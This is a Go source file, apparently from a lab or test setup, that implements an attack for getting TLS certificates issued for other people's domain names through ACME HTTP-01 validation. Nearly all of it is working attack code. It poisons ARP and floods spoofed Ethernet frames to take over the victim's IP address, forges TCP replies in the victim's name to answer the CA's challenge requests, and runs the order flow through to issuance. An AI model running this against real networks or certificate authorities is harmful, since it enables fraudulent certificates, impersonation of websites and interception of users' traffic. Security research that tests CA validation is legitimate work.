package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"path"
	"sync"
	"time"

	"github.com/mholt/acmez/v3/acme"
)

// stolen is what came of it: names with the serial of what was issued, and names with what went wrong.
type stolen struct {
	Issued  map[string]string `json:"issued"`
	Refused map[string]string `json:"refused"`
	Asked   int               `json:"asked"` // how often somebody asked here for a challenge that is not its own
}

// thief answers challenges that are meant for the victim.
type thief struct {
	scene
	wire *wire
	mu   sync.Mutex
	keys map[string]string // authorizations by token
	out  stolen
}

// steal asks the CA for certificates in the names of others, all at once, while it takes the victim's place by every
// way that is known.
func steal(s scene, directory string, names []string, limit time.Duration) (stolen, error) {
	w, err := open(s.iface)
	if err != nil {
		return stolen{}, err
	}
	defer w.close()
	t := &thief{scene: s, wire: w, keys: map[string]string{},
		out: stolen{Issued: map[string]string{}, Refused: map[string]string{}}}
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	var crew, lies sync.WaitGroup
	own, err := net.Listen("tcp4", ":80") // for its own name, which shows that asking works
	if err != nil {
		return stolen{}, err
	}
	go func() { _ = http.Serve(own, http.HandlerFunc(t.serve)) }()
	lies.Go(func() { t.lie(ctx) })
	lies.Go(func() { t.answer(ctx) })
	for _, name := range names {
		crew.Go(func() {
			serial, err := t.ask(ctx, directory, name)
			t.mu.Lock()
			defer t.mu.Unlock()
			if err != nil {
				t.out.Refused[name] = err.Error()
			} else {
				t.out.Issued[name] = serial
			}
		})
	}
	crew.Wait()
	cancel()
	lies.Wait()
	return t.out, nil
}

func (t *thief) serve(w http.ResponseWriter, r *http.Request) {
	t.mu.Lock()
	defer t.mu.Unlock()
	_, _ = io.WriteString(w, t.keys[path.Base(r.URL.Path)]) // the CA asks again
}

// lie tells the bridge that the victim's MAC is here, and the target that the victim's address is.
func (t *thief) lie(ctx context.Context) {
	var frames [][]byte
	claim := ipv4(t.own.ip, t.target.ip, protoUDP, 0, udp(t.own.ip, t.target.ip, 9, 9, make([]byte, 24)))
	answer := arp(2, t.own.mac, t.victim.ip, t.target.mac, t.target.ip)
	group := []byte{0x01, 0x80, 0xc2, 0, 0, 0x0e}
	for _, tags := range [][][2]int{nil, {{tagC, 0}}} {
		frames = append(frames, ether(t.host.mac, t.victim.mac, tags, typeIPv4, claim),
			ether(t.host.mac, t.victim.mac, tags, 0x88b5, claim),
			ether(group, t.victim.mac, tags, 0x88cc, claim), ether(t.target.mac, t.own.mac, tags, typeARP, answer))
	}
	tick := time.NewTicker(2 * time.Millisecond)
	defer tick.Stop()
	for ctx.Err() == nil {
		for _, f := range frames {
			_ = t.wire.send(f) // the next one may get through
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
		}
	}
}

// answer is a server of HTTP at the victim's address, as far as a challenge needs one.
func (t *thief) answer(ctx context.Context) {
	buffer := make([]byte, 65536)
	for ctx.Err() == nil {
		frame, _, err := t.wire.receive(buffer)
		if err != nil || len(frame) < 54 || binary.BigEndian.Uint16(frame[12:]) != typeIPv4 || frame[23] != protoTCP {
			continue
		}
		ip := frame[14:]
		head, total := int(ip[0]&15)*4, int(binary.BigEndian.Uint16(ip[2:]))
		if total > len(ip) || head+20 > total {
			continue
		}
		from, to := netip.AddrFrom4([4]byte(ip[12:16])), netip.AddrFrom4([4]byte(ip[16:20]))
		if to != t.victim.ip {
			continue
		}
		t.segment(from, ip[head:total])
	}
}

func (t *thief) segment(from netip.Addr, segment []byte) {
	there := netip.AddrPortFrom(from, binary.BigEndian.Uint16(segment))
	here := netip.AddrPortFrom(t.victim.ip, binary.BigEndian.Uint16(segment[2:]))
	seq, acked := binary.BigEndian.Uint32(segment[4:]), binary.BigEndian.Uint32(segment[8:])
	data := segment[min(int(segment[12]>>4)*4, len(segment)):]
	flags := segment[13]
	switch {
	case flags&(syn|ack) == syn:
		t.mu.Lock()
		t.out.Asked++
		t.mu.Unlock()
		t.reply(there, tcp(here, there, 0x1000, seq+1, syn|ack, nil))
	case len(data) > 0:
		t.reply(there, tcp(here, there, acked, seq+uint32(len(data)), ack|psh|fin, t.page(data)))
	case flags&fin != 0:
		t.reply(there, tcp(here, there, acked, seq+1, ack, nil))
	}
}

// page is the answer to a request for a challenge.
func (t *thief) page(request []byte) []byte {
	_, after, _ := bytes.Cut(request, []byte("/.well-known/acme-challenge/"))
	token, _, _ := bytes.Cut(after, []byte(" "))
	t.mu.Lock()
	defer t.mu.Unlock()
	key := t.keys[string(token)]
	return fmt.Appendf(nil, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(key), key)
}

// reply sends in the victim's name, plain and behind a priority tag, from either MAC.
func (t *thief) reply(to netip.AddrPort, segment []byte) {
	packet := ipv4(t.victim.ip, to.Addr(), protoTCP, 0x4000, segment)
	for _, tags := range [][][2]int{nil, {{tagC, 0}}} {
		_ = t.wire.send(ether(t.target.mac, t.victim.mac, tags, typeIPv4, packet)) // the next one may get through
		_ = t.wire.send(ether(t.target.mac, t.own.mac, tags, typeIPv4, packet))
	}
}

// ask goes through an order (RFC 8555, section 7) and gives the serial of the certificate.
func (t *thief) ask(ctx context.Context, directory, name string) (string, error) {
	client := &acme.Client{Directory: directory, PollInterval: 200 * time.Millisecond, HTTPClient: &http.Client{
		Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}} // a thief trusts nobody
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	account, err := client.NewAccount(ctx, acme.Account{TermsOfServiceAgreed: true, PrivateKey: key})
	if err != nil {
		return "", err
	}
	order, err := client.NewOrder(ctx, account, acme.Order{Identifiers: []acme.Identifier{{Type: "dns", Value: name}}})
	if err != nil {
		return "", err
	}
	for _, url := range order.Authorizations {
		if err := t.authorize(ctx, client, account, url); err != nil {
			return "", err
		}
	}
	leaf, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	request, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{DNSNames: []string{name}}, leaf)
	if err != nil {
		return "", err
	}
	if order, err = client.FinalizeOrder(ctx, account, order, request); err != nil {
		return "", err
	}
	chains, err := client.GetCertificateChain(ctx, account, order.Certificate)
	if err != nil || len(chains) == 0 {
		return "", fmt.Errorf("no certificate: %w", err)
	}
	return order.Certificate, nil
}

func (t *thief) authorize(ctx context.Context, client *acme.Client, account acme.Account, url string) error {
	authz, err := client.GetAuthorization(ctx, account, url)
	if err != nil {
		return err
	}
	for _, c := range authz.Challenges {
		if c.Type != acme.ChallengeTypeHTTP01 {
			continue
		}
		t.mu.Lock()
		t.keys[c.Token] = c.KeyAuthorization
		t.mu.Unlock()
		for ctx.Err() == nil { // the CA looks when it is asked to
			if _, err := client.InitiateChallenge(ctx, account, c); err != nil {
				return err
			}
			time.Sleep(300 * time.Millisecond)
			if authz, err = client.GetAuthorization(ctx, account, url); err != nil {
				return err
			}
			if authz.Status == acme.StatusValid {
				return nil
			}
			if authz.Status == acme.StatusInvalid {
				return fmt.Errorf("the authorization is invalid")
			}
		}
		return ctx.Err()
	}
	return fmt.Errorf("no HTTP challenge")
}
